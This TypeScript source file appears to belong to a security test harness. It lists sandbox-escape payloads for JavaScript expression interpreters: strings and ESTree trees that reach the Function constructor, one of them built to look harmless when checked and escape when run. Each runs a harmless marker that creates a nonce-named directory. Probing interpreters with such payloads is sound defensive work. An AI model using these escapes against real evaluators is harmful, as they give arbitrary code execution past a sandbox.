import { NONCE, type Value, hole } from '../../../protocol/plan.ts'

const EFFECT = `process.getBuiltinModule('fs').mkdirSync('${NONCE}')`

/**
 * Paths from values of an expression language to the function constructor, with `@` for the
 * constructor and its call.
 */
const WAYS = [
  "''.constructor.constructor@",
  "''['sub']['constructor']@",
  '[].constructor.constructor@',
  'toString.constructor@',
  'constructor.constructor@',
  'cos.constructor@',
  'this.constructor.constructor@',
  '(function(){}).constructor@',
  'setTimeout.constructor@',
  'clearImmediate.constructor@',
  'console.log.constructor@',
  'Buffer.from.constructor@',
  "(function(y){return ''[!y?'__proto__':'constructor'][y]})('constructor')@",
  'try{null.a}catch(e){e.constructor.constructor@}',
] as const

/** Texts that escape from an interpreter. */
export const ESCAPES: readonly string[] = WAYS.map((way) =>
  way.replace('@', () => `(${JSON.stringify(EFFECT)})()`),
)

type Node = { readonly [key: string]: Value }

const literal = (value: Value): Node => ({ type: 'Literal', value, raw: JSON.stringify(value) })
const name = (of: string): Node => ({ type: 'Identifier', name: of })
const call = (callee: Node, ...given: Node[]): Node => ({
  type: 'CallExpression',
  callee,
  arguments: given,
})
const member = (object: Node, property: Node): Node => ({
  type: 'MemberExpression',
  object,
  property,
  computed: true,
})

const not = (argument: Node): Node => ({
  type: 'UnaryExpression',
  operator: '!',
  prefix: true,
  argument,
})
/** Returns nothing when checked, and an escape when run. */
const changing: Node = {
  type: 'FunctionExpression',
  id: null,
  params: [name('y')],
  defaults: [],
  body: {
    type: 'BlockStatement',
    body: [
      {
        type: 'ReturnStatement',
        argument: member(
          member(literal(''), {
            type: 'ConditionalExpression',
            test: not(name('y')),
            consequent: literal('__proto__'),
            alternate: literal('constructor'),
          }),
          name('y'),
        ),
      },
    ],
  },
  generator: false,
  expression: false,
}

const constructor = literal('constructor')
const code = literal(hole(0))

/** Escapes as ESTree nodes, with a hole for the code. */
export const ESCAPING_TREES: readonly Node[] = [
  call(call(member(member(literal(''), constructor), constructor), code)),
  call(call(member(member(literal(''), literal('sub')), constructor), code)),
  call(call(call(changing, constructor), code)),
]

/** The code for the hole of a tree. */
export const ESCAPED_CODE = EFFECT
